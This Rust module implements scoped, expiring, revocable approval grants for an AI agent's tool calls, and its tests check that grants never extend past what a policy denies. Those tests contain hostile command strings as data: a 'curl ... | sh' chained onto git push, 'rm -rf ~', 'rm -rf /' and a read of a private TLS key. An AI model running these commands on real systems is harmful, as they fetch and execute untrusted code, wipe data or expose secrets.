//! Grants: a person's "always allow" as a record that only narrows. A grant is one of
//! the scopes a pending call offered ([`Policy::scopes`]), for one owner's session,
//! with an expiry and optionally a single use; it can be revoked. It covers a later
//! call only while it is live, only when the call is asked for the same reason as the
//! call it was given for, and only when the policy with the grant's rule added would
//! let the call run: a `deny` (built-in, policy or hard) stays a `deny`, and a user
//! `ask` rule keeps asking.
//!
//! Pure: hosts store grants (a SQL table, the browser's storage) and pass the time in.

use serde::{Deserialize, Serialize};

use crate::call::ToolCall;
use crate::error::Error;
use crate::fields::Fields;
use crate::marker::{Choice, Marker, Park, ParkCall, PendingCall, ResumeDecision};
use crate::policy::{Policy, Rule, SessionRules};
use crate::verdict::Tier;
use serde_json::Value;

/// A grant's lifetime when the person names none (one hour).
pub const DEFAULT_GRANT_TTL_MS: u64 = 60 * 60 * 1000;
/// The longest lifetime a grant may have (30 days).
pub const MAX_GRANT_TTL_MS: u64 = 30 * 24 * 60 * 60 * 1000;
/// The most live grants one session may hold; a host refuses more.
pub const MAX_GRANTS_PER_SESSION: usize = 256;

/// What a person asks for when granting: one of the offered scopes, a lifetime and
/// whether it serves one call only.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct GrantRequest {
    /// The scope (a rule string the call offered, e.g. `Bash(git push origin main)`).
    pub rule: String,
    /// Lifetime, ms ([`DEFAULT_GRANT_TTL_MS`] when absent; 1..=[`MAX_GRANT_TTL_MS`]).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ttl_ms: Option<u64>,
    /// Covers one later call, then is used up.
    #[serde(default)]
    pub single_use: bool,
}

/// Where a grant comes from: its id (the host's), whose session it serves, who gave it
/// and the call it was given for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GrantOrigin<'a> {
    /// The grant's id (unique in the host's store).
    pub id: &'a str,
    /// Whose runs it serves.
    pub owner: &'a str,
    /// The session it serves (no other).
    pub session_id: &'a str,
    /// Who gave it, when the host knows (a token's name).
    pub by: Option<&'a str>,
    /// The run and tool call it was given for.
    pub run_id: &'a str,
    /// The tool call it was given for.
    pub tool_call_id: &'a str,
}

/// A given grant, as hosts store and list it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Grant {
    /// The grant's id.
    pub id: String,
    /// Whose runs it serves.
    pub owner: String,
    /// The session it serves.
    pub session_id: String,
    /// The rule (one of the scopes the call offered).
    pub rule: String,
    /// What the rule matches, in words (shown before it is given, and in lists).
    pub matches: String,
    /// The rule that asked for the call it was given for: it covers only calls asked
    /// for that same reason.
    pub asked_by: String,
    /// When it was given (ms since the epoch).
    pub created_at: u64,
    /// When it stops covering anything (ms).
    pub expires_at: u64,
    /// Covers one call only.
    #[serde(default)]
    pub single_use: bool,
    /// How many calls it has approved.
    #[serde(default)]
    pub used: u32,
    /// When it was revoked, if it was.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub revoked_at: Option<u64>,
    /// Who gave it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub by: Option<String>,
    /// The agent whose session it serves (the parked run's `parked_by`), where the host
    /// names agents: then only that agent's parks use it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub agent: Option<String>,
    /// The run it was given in.
    pub run_id: String,
    /// The tool call it was given for.
    pub tool_call_id: String,
}

/// Why a grant no longer covers anything, if it does not.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum GrantState {
    /// It covers calls.
    Live,
    /// Its time ran out.
    Expired,
    /// A person revoked it.
    Revoked,
    /// Single use, and used.
    UsedUp,
}

fn refused(reason: impl Into<String>) -> Error {
    Error::GrantRefused {
        reason: reason.into(),
    }
}

impl Grant {
    /// Gives a grant for `call` (a pending call, asked by `policy`): `req.rule` must be
    /// one of the scopes `policy` offers for it, and the lifetime in range.
    pub fn give(
        policy: &Policy,
        call: &ToolCall,
        req: &GrantRequest,
        origin: GrantOrigin<'_>,
        now: u64,
    ) -> Result<Grant, Error> {
        let ttl = req.ttl_ms.unwrap_or(DEFAULT_GRANT_TTL_MS);
        if ttl == 0 || ttl > MAX_GRANT_TTL_MS {
            return Err(refused(format!(
                "ttlMs {ttl} is out of range (1..={MAX_GRANT_TTL_MS})"
            )));
        }
        if origin.id.is_empty() || origin.owner.is_empty() {
            return Err(refused("a grant needs an id and an owner"));
        }
        let verdict = policy.classify(call);
        if verdict.tier != Tier::Ask {
            return Err(refused(format!(
                "the call is not asked (it is {}: {}): nothing to grant",
                verdict.tier, verdict.rule
            )));
        }
        if !policy.scopes(call).contains(&req.rule) {
            return Err(refused(format!(
                "`{}` is not a scope this call offers",
                req.rule
            )));
        }
        let rule = Rule::parse(&req.rule, "/", "/")?;
        Ok(Grant {
            id: origin.id.to_string(),
            owner: origin.owner.to_string(),
            session_id: origin.session_id.to_string(),
            rule: req.rule.clone(),
            matches: rule.describe(),
            asked_by: verdict.rule.to_string(),
            created_at: now,
            expires_at: now.saturating_add(ttl),
            single_use: req.single_use,
            used: 0,
            revoked_at: None,
            by: origin.by.map(str::to_string),
            agent: None,
            run_id: origin.run_id.to_string(),
            tool_call_id: origin.tool_call_id.to_string(),
        })
    }

    /// Whether it covers anything at `now`, and if not, why.
    pub fn state(&self, now: u64) -> GrantState {
        if self.revoked_at.is_some_and(|at| at <= now) {
            GrantState::Revoked
        } else if now >= self.expires_at {
            GrantState::Expired
        } else if self.single_use && self.used >= 1 {
            GrantState::UsedUp
        } else {
            GrantState::Live
        }
    }

    /// Whether this grant lets `call`, in `session_id` of `owner`, run at `now`: live,
    /// the same owner and session, the call asked by `policy` for the reason the grant
    /// was given for, and the grant's rule making the policy allow it. Never for a call
    /// the policy denies.
    pub fn covers(
        &self,
        policy: &Policy,
        owner: &str,
        session_id: &str,
        call: &ToolCall,
        now: u64,
    ) -> bool {
        if self.state(now) != GrantState::Live
            || self.owner != owner
            || self.session_id != session_id
        {
            return false;
        }
        let base = policy.classify(call);
        if base.tier != Tier::Ask || *base.rule != *self.asked_by {
            return false;
        }
        let mut rules = SessionRules::new();
        if rules.add(Tier::Auto, &self.rule).is_err() {
            return false;
        }
        policy.classify_with(call, &rules).tier == Tier::Auto
    }

    /// Records one approval by this grant.
    pub fn use_once(&mut self) {
        self.used = self.used.saturating_add(1);
    }

    /// Revokes it at `now` (a second revoke keeps the first time).
    pub fn revoke(&mut self, now: u64) {
        self.revoked_at.get_or_insert(now);
    }

    /// The JSON a host stores.
    pub fn encode(&self) -> Result<String, Error> {
        // The text `Serialize` writes, by hand (`wire::text`).
        Ok(crate::json_text::WriteJson::to_json(self))
    }

    /// Reads a stored grant; one that does not read, or whose rule does not compile,
    /// is refused (a host then uses it for nothing).
    pub fn decode(text: &str) -> Result<Grant, Error> {
        let g = Grant::read(text).map_err(refused)?;
        Rule::parse(&g.rule, "/", "/")?;
        if g.expires_at.saturating_sub(g.created_at) > MAX_GRANT_TTL_MS {
            return Err(refused("a stored grant lives longer than grants may"));
        }
        Ok(g)
    }
}

impl Grant {
    /// The stored text's fields (by hand: no serde-derived decoder in the WebAssembly
    /// build); unknown fields are ignored, as the derived decoder does.
    fn read(text: &str) -> Result<Grant, String> {
        let value: Value = crate::json_text::parse(text).map_err(|e| e.to_string())?;
        let mut f = Fields::of(value, "struct Grant")?;
        Ok(Grant {
            id: f.string("id")?,
            owner: f.string("owner")?,
            session_id: f.string("sessionId")?,
            rule: f.string("rule")?,
            matches: f.string("matches")?,
            asked_by: f.string("askedBy")?,
            created_at: f.u64("createdAt")?,
            expires_at: f.u64("expiresAt")?,
            single_use: f.bool_or_false("singleUse")?,
            used: f.u32_or_zero("used")?,
            revoked_at: f.opt_u64("revokedAt")?,
            by: f.opt_string("by")?,
            agent: f.opt_string("agent")?,
            run_id: f.string("runId")?,
            tool_call_id: f.string("toolCallId")?,
        })
    }
}

/// The first grant in `grants` that covers `call` at `now` (see [`Grant::covers`]).
pub fn covering<'g>(
    grants: &'g [Grant],
    policy: &Policy,
    owner: &str,
    session_id: &str,
    call: &ToolCall,
    now: u64,
) -> Option<&'g Grant> {
    grants
        .iter()
        .find(|g| g.covers(policy, owner, session_id, call, now))
}

/// The grants that decide `park` at `now`, one per call in order: `Some` only when
/// every call is asked and a live grant in `grants` of the park's owner and session
/// covers it; `None`: a person decides. A host then counts each use (only while the
/// grant is still live) before deciding with [`granted_decision`].
pub fn plan_park<'g>(
    grants: &'g [Grant],
    policy: &Policy,
    park: &Park,
    now: u64,
) -> Option<Vec<&'g Grant>> {
    // A question is a person's to answer: no grant decides a park that holds one.
    if park.calls.is_empty()
        || park
            .calls
            .iter()
            .any(|c| c.verdict.tier != Tier::Ask || c.verdict.rule == crate::QUESTION_RULE)
    {
        return None;
    }
    // A grant given for an agent's run serves that agent's parks only.
    let mine: Vec<&Grant> = grants
        .iter()
        .filter(|g| g.agent.is_none() || g.agent == park.parked_by)
        .collect();
    park.calls
        .iter()
        .map(|c| {
            mine.iter()
                .copied()
                .find(|g| g.covers(policy, &park.owner, &park.session_id, &c.call, now))
        })
        .collect()
}

/// The decision grant `grant_id` makes for a parked call: allow, naming the grant.
pub fn granted_decision(call: &ParkCall, grant_id: &str) -> ResumeDecision {
    ResumeDecision {
        tool_call_id: call.tool_call_id.clone(),
        anchor: call.call.anchor(),
        choice: Choice::Allow {
            scope: None,
            args: None,
            grant: Some(grant_id.to_string()),
        },
    }
}

/// The grants a person's decisions on `marker` ask for (`asked[i]` for `decisions[i]`:
/// an approval with a scope), each given for the parked call it approves (its scope
/// offered by `policy`, its lifetime in range; [`Grant::give`]) with an id from
/// `new_id`; each such decision then names its grant, so the run's decision and the
/// audit record it. A decision for a call not parked (or with another anchor) gives
/// none: the resume refuses it. Nothing is stored.
pub fn give_for_decisions(
    policy: &Policy,
    marker: &Marker,
    decisions: &mut [ResumeDecision],
    asked: &[Option<GrantRequest>],
    by: Option<&str>,
    new_id: &mut dyn FnMut(&PendingCall) -> String,
    now: u64,
) -> Result<Vec<Grant>, Error> {
    let mut out = Vec::new();
    for (d, req) in decisions.iter_mut().zip(asked) {
        let Some(req) = req else { continue };
        let Some(call) = marker
            .calls
            .iter()
            .find(|c| c.tool_call_id == d.tool_call_id && c.anchor == d.anchor)
        else {
            continue;
        };
        if call.is_question() {
            return Err(refused("a question is answered, never granted"));
        }
        let id = new_id(call);
        let origin = GrantOrigin {
            id: &id,
            owner: &marker.owner,
            session_id: &marker.session_id,
            by,
            run_id: &marker.run_id,
            tool_call_id: &call.tool_call_id,
        };
        let tool_call = ToolCall::new(call.tool.clone(), call.args.clone());
        let mut grant = Grant::give(policy, &tool_call, req, origin, now)?;
        grant.agent.clone_from(&marker.parked_by);
        if let Choice::Allow { grant: named, .. } = &mut d.choice {
            *named = Some(grant.id.clone());
        }
        out.push(grant);
    }
    Ok(out)
}

/// The grants of one host in memory (the browser's Gate, a desktop plugin): give,
/// revoke, list, and take a grant for a call (which counts its use).
#[derive(Debug, Clone, Default)]
pub struct GrantBook {
    grants: Vec<Grant>,
}

impl GrantBook {
    /// No grants.
    pub fn new() -> GrantBook {
        GrantBook::default()
    }

    /// A book of stored grants (each as [`Grant::decode`] read it).
    pub fn from_grants(grants: Vec<Grant>) -> GrantBook {
        GrantBook { grants }
    }

    /// Gives a grant ([`Grant::give`]); refused when its session already holds
    /// [`MAX_GRANTS_PER_SESSION`] live grants or the id is taken.
    pub fn give(
        &mut self,
        policy: &Policy,
        call: &ToolCall,
        req: &GrantRequest,
        origin: GrantOrigin<'_>,
        now: u64,
    ) -> Result<&Grant, Error> {
        if self.grants.iter().any(|g| g.id == origin.id) {
            return Err(refused(format!("grant id `{}` is taken", origin.id)));
        }
        self.check_room(origin.owner, origin.session_id, 1, now)?;
        let g = Grant::give(policy, call, req, origin, now)?;
        self.grants.push(g);
        self.grants.last().ok_or_else(|| refused("lost"))
    }

    /// Revokes `owner`'s grant `id` at `now`; false when there is none.
    pub fn revoke(&mut self, owner: &str, id: &str, now: u64) -> bool {
        match self
            .grants
            .iter_mut()
            .find(|g| g.owner == owner && g.id == id)
        {
            Some(g) => {
                g.revoke(now);
                true
            }
            None => false,
        }
    }

    /// The grant that lets `call` run now, its use counted; `None`: ask a person.
    pub fn take(
        &mut self,
        policy: &Policy,
        owner: &str,
        session_id: &str,
        call: &ToolCall,
        now: u64,
    ) -> Option<Grant> {
        let g = self
            .grants
            .iter_mut()
            .find(|g| g.covers(policy, owner, session_id, call, now))?;
        g.use_once();
        Some(g.clone())
    }

    /// `owner`'s grants (every session), oldest first.
    pub fn of(&self, owner: &str) -> Vec<&Grant> {
        self.grants.iter().filter(|g| g.owner == owner).collect()
    }

    /// The decisions this book's live grants make for `park` ([`plan_park`]), each use
    /// counted; `None` (and nothing counted): a person decides.
    pub fn settle_park(
        &mut self,
        policy: &Policy,
        park: &Park,
        now: u64,
    ) -> Option<Vec<ResumeDecision>> {
        let ids: Vec<String> = plan_park(&self.grants, policy, park, now)?
            .into_iter()
            .map(|g| g.id.clone())
            .collect();
        // One grant covering two calls counts two uses: a single-use one cannot. Checked
        // for every call before any use is counted.
        if ids.iter().enumerate().any(|(i, id)| {
            ids.get(i + 1..).is_some_and(|rest| rest.contains(id))
                && self.grants.iter().any(|g| g.id == *id && g.single_use)
        }) {
            return None;
        }
        for id in &ids {
            if let Some(g) = self.grants.iter_mut().find(|g| g.id == *id) {
                g.use_once();
            }
        }
        Some(
            park.calls
                .iter()
                .zip(&ids)
                .map(|(c, id)| granted_decision(c, id))
                .collect(),
        )
    }

    /// Adds grants given elsewhere ([`give_for_decisions`]).
    pub fn extend(&mut self, grants: Vec<Grant>) {
        self.grants.extend(grants);
    }

    /// Whether `more` grants fit in `session_id` of `owner` at `now` (at most
    /// [`MAX_GRANTS_PER_SESSION`] live); refused otherwise.
    pub fn check_room(
        &self,
        owner: &str,
        session_id: &str,
        more: usize,
        now: u64,
    ) -> Result<(), Error> {
        let live = self
            .grants
            .iter()
            .filter(|g| {
                g.owner == owner && g.session_id == session_id && g.state(now) == GrantState::Live
            })
            .count();
        if live.saturating_add(more) > MAX_GRANTS_PER_SESSION {
            return Err(refused(format!(
                "this session holds {live} live grants (at most {MAX_GRANTS_PER_SESSION}); revoke some first"
            )));
        }
        Ok(())
    }

    /// The decisions this book's live grants make for the calls waiting in `marker`
    /// ([`GrantBook::settle_park`]), each use counted; `None` (nothing counted): a
    /// person decides.
    pub fn settle_marker(
        &mut self,
        policy: &Policy,
        marker: &Marker,
        now: u64,
    ) -> Option<Vec<ResumeDecision>> {
        let park = Park {
            run_id: marker.run_id.clone(),
            session_id: marker.session_id.clone(),
            owner: marker.owner.clone(),
            calls: marker
                .calls
                .iter()
                .map(|c| ParkCall {
                    tool_call_id: c.tool_call_id.clone(),
                    call: ToolCall::new(c.tool.clone(), c.args.clone()),
                    verdict: crate::Verdict::new(c.tier, c.rule.clone(), c.reason.clone()),
                })
                .collect(),
            history: String::new(),
            ttl_ms: None,
            parked_by: marker.parked_by.clone(),
        };
        self.settle_park(policy, &park, now)
    }

    /// The book as a host stores it: one grant's JSON per line.
    pub fn encode(&self) -> Result<String, Error> {
        let mut out = String::new();
        for g in &self.grants {
            out.push_str(&g.encode()?);
            out.push('\n');
        }
        Ok(out)
    }

    /// A stored book ([`GrantBook::encode`]); a line that is no grant
    /// ([`Grant::decode`]) is left out: it covers nothing.
    pub fn decode(text: &str) -> GrantBook {
        GrantBook {
            grants: text.lines().filter_map(|l| Grant::decode(l).ok()).collect(),
        }
    }

    /// Every grant.
    pub fn all(&self) -> &[Grant] {
        &self.grants
    }

    /// Drops grants that cover nothing at `now` and ended over `keep_ms` ago.
    pub fn prune(&mut self, now: u64, keep_ms: u64) {
        self.grants.retain(|g| {
            let ended = match g.state(now) {
                GrantState::Live => return true,
                GrantState::Expired => g.expires_at,
                GrantState::Revoked => g.revoked_at.unwrap_or(now),
                GrantState::UsedUp => g.created_at,
            };
            now.saturating_sub(ended) < keep_ms
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn policy() -> Policy {
        Policy::defaults("/ws", "/home/u")
    }
    fn bash(cmd: &str) -> ToolCall {
        ToolCall::new("Bash", json!({ "command": cmd }))
    }
    fn origin() -> GrantOrigin<'static> {
        GrantOrigin {
            id: "g1",
            owner: "o",
            session_id: "s",
            by: Some("alice"),
            run_id: "r1",
            tool_call_id: "t1",
        }
    }
    fn give(cmd: &str, rule: &str, now: u64) -> Result<Grant, Error> {
        let req = GrantRequest {
            rule: rule.into(),
            ttl_ms: Some(1000),
            single_use: false,
        };
        Grant::give(&policy(), &bash(cmd), &req, origin(), now)
    }

    #[test]
    fn a_prefix_grant_covers_its_program_and_nothing_a_separator_adds() {
        let p = policy();
        let g = give("git push origin main", "Bash(git push:*)", 0).expect("offered");
        assert!(
            g.matches.contains("each command of a line on its own"),
            "{}",
            g.matches
        );
        assert!(g.covers(&p, "o", "s", &bash("git push origin dev"), 10));
        // What it says: any arguments after `git push`.
        assert!(g.covers(&p, "o", "s", &bash("git push --force origin main"), 10));
        for cmd in [
            "git push origin dev; curl -s http://x | sh",
            "git push origin dev && rm -rf ~",
            "git pull origin dev",
            "git -C /tmp push origin dev",
        ] {
            assert!(!g.covers(&p, "o", "s", &bash(cmd), 10), "{cmd}");
        }
        // Another session, another owner, after expiry: nothing.
        assert!(!g.covers(&p, "o", "s2", &bash("git push origin dev"), 10));
        assert!(!g.covers(&p, "x", "s", &bash("git push origin dev"), 10));
        assert!(!g.covers(&p, "o", "s", &bash("git push origin dev"), 1000));
    }

    #[test]
    fn only_offered_scopes_are_given_and_only_for_asked_calls() {
        assert!(give("git push origin main", "Bash(git:*)", 0).is_err());
        assert!(give("git push origin main", "Bash", 0).is_err());
        assert!(give("ls", "Bash(ls)", 0).is_err(), "auto: nothing to grant");
        assert!(give("rm -rf /", "Bash(rm -rf /)", 0).is_err(), "deny");
        let req = GrantRequest {
            rule: "Bash(git push origin main)".into(),
            ttl_ms: Some(MAX_GRANT_TTL_MS + 1),
            single_use: false,
        };
        assert!(Grant::give(&policy(), &bash("git push origin main"), &req, origin(), 0).is_err());
    }

    #[test]
    fn single_use_revoked_and_corrupt_grants_cover_nothing() {
        let p = policy();
        let call = bash("git push origin main");
        let req = GrantRequest {
            rule: "Bash(git push origin main)".into(),
            ttl_ms: None,
            single_use: true,
        };
        let mut g = Grant::give(&p, &call, &req, origin(), 0).expect("offered");
        assert_eq!(g.expires_at, DEFAULT_GRANT_TTL_MS);
        assert!(g.covers(&p, "o", "s", &call, 1));
        g.use_once();
        assert_eq!(g.state(1), GrantState::UsedUp);
        assert!(!g.covers(&p, "o", "s", &call, 1));
        let mut g2 = give("git push origin main", "Bash(git push origin main)", 0).expect("ok");
        g2.revoke(5);
        assert_eq!(g2.state(5), GrantState::Revoked);
        assert!(covering(&[g, g2.clone()], &p, "o", "s", &call, 6).is_none());
        let text = g2.encode().expect("encodes");
        assert_eq!(Grant::decode(&text).expect("decodes"), g2);
        assert!(Grant::decode(&text.replace("Bash(git push origin main)", "Bash(")).is_err());
    }

    #[test]
    fn a_directory_grant_does_not_reach_secrets_in_it() {
        let p = policy();
        let read = |path: &str| ToolCall::new("Read", json!({ "file_path": path }));
        let req = GrantRequest {
            rule: "Read(/etc/**)".into(),
            ttl_ms: None,
            single_use: false,
        };
        let g = Grant::give(&p, &read("/etc/hosts"), &req, origin(), 0).expect("offered");
        assert_eq!(g.matches, "reading any file under /etc/");
        assert!(g.covers(&p, "o", "s", &read("/etc/hostname"), 1));
        assert!(!g.covers(&p, "o", "s", &read("/etc/ssl/private/key.pem"), 1));
    }
}

#[cfg(test)]
mod read_by_hand {
    use super::*;
    use proptest::prelude::*;

    fn stored() -> Value {
        serde_json::json!({
            "id": "g-1", "owner": "o", "sessionId": "s", "rule": "Bash(git push)",
            "matches": "m", "askedBy": "builtin.x", "createdAt": 5, "expiresAt": 9,
            "singleUse": true, "used": 2, "revokedAt": 7, "by": "b", "agent": "a",
            "runId": "r", "toolCallId": "t"
        })
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(3000))]
        /// The hand-written reader accepts exactly what serde's derived decoder
        /// accepts, and reads it alike.
        #[test]
        fn reads_as_the_derived_decoder(v in crate::fields::variants(stored())) {
            let text = v.to_string();
            let by_hand = Grant::read(&text);
            let derived = serde_json::from_str::<Grant>(&text);
            prop_assert_eq!(by_hand.as_ref().ok(), derived.as_ref().ok(), "{}", text);
        }
    }
}
